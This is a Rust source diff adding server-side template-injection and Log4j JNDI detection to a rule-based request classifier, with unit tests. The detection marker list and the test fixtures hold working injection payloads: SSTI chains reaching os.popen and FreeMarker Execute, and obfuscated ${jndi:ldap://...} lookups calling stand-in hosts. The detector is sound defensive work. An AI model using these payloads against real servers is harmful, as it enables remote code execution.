@@ -984,6 +984,11 @@ impl Rules {
         if cs.any(PAREN) && (f(s, b"() {").is_some() || f(s, b"(){").is_some()) {
             return Some("rce-shellshock");
         }
+        if cs.any(BRACE | LT | HASH) {
+            if let Some(r) = template_injection(s, cs) {
+                return Some(r);
+            }
+        }
         let mut own = Vec::new();
         let hits = match hits {
             Some(h) => h,
@@ -1882,6 +1887,129 @@ fn looks_like_host(arg: &[u8]) -> bool {
         })
 }
 
+/// Server-side template and expression-language injection, which runs code on the server:
+/// a Log4j lookup reaching JNDI (`${jndi:ldap://..}`, also spelled with nested lookups
+/// `${${lower:j}ndi:` or `${::-j}`), and template expressions (`{{...}}`, `${...}`, `#{...}`,
+/// `<%= ... %>`, `{% ... %}`, FreeMarker's `<#assign`, Velocity's `#set(`) holding an arithmetic
+/// probe (`{{7*7}}`) or reaching for the runtime (`__class__`, `__globals__`, `getRuntime()`,
+/// `popen(`, `child_process`, `forName(`).
+fn template_injection(s: &[u8], cs: crate::chars::Chars) -> Option<&'static str> {
+    use crate::chars::*;
+    let f = crate::find;
+    if cs.any(DOLLAR) && f(s, b"${").is_some() {
+        // Log4j resolves nested lookups first: `${lower:j}` is `j`, `${::-j}` is `j`.
+        if f(s, b"${::-").is_some() || jndi_after_lookups(s) {
+            return Some("rce-jndi-lookup");
+        }
+    }
+    const OPENERS: &[(&[u8], &[u8])] = &[
+        (b"{{", b"}}"),
+        (b"${", b"}"),
+        (b"#{", b"}"),
+        (b"<%", b"%>"),
+        (b"{%", b"%}"),
+        (b"<#", b">"),
+        (b"#set(", b")"),
+    ];
+    for (open, close) in OPENERS {
+        let mut from = 0;
+        while let Some(p) = f(&s[from..], open) {
+            let start = from + p + open.len();
+            let window = &s[start..s.len().min(start + 256)];
+            let body = f(window, close).map_or(window, |e| &window[..e]);
+            // Each byte is in one body per kind of delimiter: `{{{{...` stays linear.
+            from = (start + body.len().max(1)).min(s.len());
+            let body = body.strip_prefix(b"=").unwrap_or(body).trim_ascii();
+            if arithmetic_probe(body) || reaches_runtime(body) {
+                return Some("rce-template-injection");
+            }
+        }
+    }
+    None
+}
+
+/// `7*7`, `1337 * 1337`: a template engine that answers 49 has been found.
+fn arithmetic_probe(body: &[u8]) -> bool {
+    let Some(star) = memchr::memchr(b'*', body) else {
+        return false;
+    };
+    let (a, b) = (body[..star].trim_ascii(), body[star + 1..].trim_ascii());
+    !a.is_empty()
+        && !b.is_empty()
+        && a.len() <= 6
+        && b.len() <= 6
+        && a.iter().chain(b).all(u8::is_ascii_digit)
+}
+
+fn reaches_runtime(body: &[u8]) -> bool {
+    const MARKERS: &[&[u8]] = &[
+        b"__class__",
+        b"__globals__",
+        b"__builtins__",
+        b"__subclasses__",
+        b"__import__",
+        b"__mro__",
+        b"__init__",
+        b"getruntime(",
+        b"java.lang.",
+        b"processbuilder",
+        b"popen(",
+        b"child_process",
+        b"forname(",
+        b"freemarker.template",
+        b"os.system",
+        b"subprocess",
+        b"mainmodule",
+        b"config.items(",
+        b"request.application",
+        b"self._templatereference",
+        b"lipsum.__",
+        b"cycler.__",
+    ];
+    body.len() >= 6 && MARKERS.iter().any(|m| crate::find(body, m).is_some())
+}
+
+/// `${jndi:` once Log4j's `${lower:x}`/`${upper:x}`/`${env:NAME:-x}`/`${date:'x'}` lookups that
+/// spell its letters are resolved.
+fn jndi_after_lookups(s: &[u8]) -> bool {
+    if crate::find(s, b"${jndi:").is_some() {
+        return true;
+    }
+    if crate::find(s, b"${${").is_none() && crate::find(s, b"${j${").is_none() {
+        return false;
+    }
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        if s[i..].starts_with(b"${") {
+            if let Some(e) = s[i + 2..s.len().min(i + 40)]
+                .iter()
+                .position(|&c| c == b'}')
+            {
+                let inner = &s[i + 2..i + 2 + e];
+                // The lookup's value: after `:-` (a default) or after the first `:`. An outer
+                // lookup (`${${lower:j}ndi:...}`) stays; its inner ones resolve.
+                let value = match crate::find(inner, b":-").filter(|_| !inner.contains(&b'$')) {
+                    Some(d) => Some(&inner[d + 2..]),
+                    None => inner
+                        .iter()
+                        .position(|&c| c == b':')
+                        .filter(|_| !inner.contains(&b'$') && !inner.starts_with(b"jndi"))
+                        .map(|c| &inner[c + 1..]),
+                };
+                if let Some(v) = value {
+                    out.extend(v.iter().filter(|&&c| c != b'\''));
+                    i += 2 + e + 1;
+                    continue;
+                }
+            }
+        }
+        out.push(s[i]);
+        i += 1;
+    }
+    crate::find(&out, b"${jndi:").is_some()
+}
+
 /// A time-delay probe after a separator: `;sleep 5`, `| timeout 9 ;`. Glued to its separator or
 /// closed by another one; prose ends with `; sleep 8` too.
 fn delay_probe(rest: &[u8], glued: bool) -> bool {
@@ -2268,6 +2396,37 @@ mod class_tests {
             "Gross & net user count",
             "dir: c:\\temp is full",
             "ifs and buts",
+        ] {
+            assert_eq!(hit(&r, b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn template_and_expression_injection() {
+        let r = Rules::new();
+        for a in [
+            "{{ 6*9 }}",
+            "<%= 12 * 12 %>",
+            "#{3*3}",
+            "{{ cycler.__init__.__globals__.os.popen('uname').read() }}",
+            "${''.getClass().forName('java.lang.Runtime')}",
+            "{% for c in [].__class__.__base__.__subclasses__() %}",
+            "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
+            "${jndi:rmi://h.example:1099/o}",
+            "${${upper:j}ndi:dns://h.example/x}",
+            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://h.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/a}",
+        ] {
+            assert!(hit(&r, a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "Hello {{name}}, your order {{order_id}} shipped",
+            "${price} * 2 for two",
+            "Use #{hashtag} and {% raw %}",
+            "Room 4*4 m, {{size}}",
+            "jndi tutorial ${chapter}",
+            "2 * 3 = 6 <% sale %>",
+            "{{ 5 * x }}",
         ] {
             assert_eq!(hit(&r, b), None, "false positive: {b}");
         }
